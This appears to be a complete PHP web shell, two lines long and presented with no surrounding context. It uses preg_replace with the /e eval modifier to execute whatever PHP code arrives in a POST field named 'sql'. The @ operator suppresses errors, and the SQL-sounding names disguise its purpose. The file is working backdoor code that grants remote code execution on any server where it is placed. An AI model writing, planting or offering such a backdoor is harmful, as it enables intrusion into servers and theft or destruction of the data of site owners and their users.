<?php
@preg_replace("/[checksql]/e", $_POST['sql'], "saft");
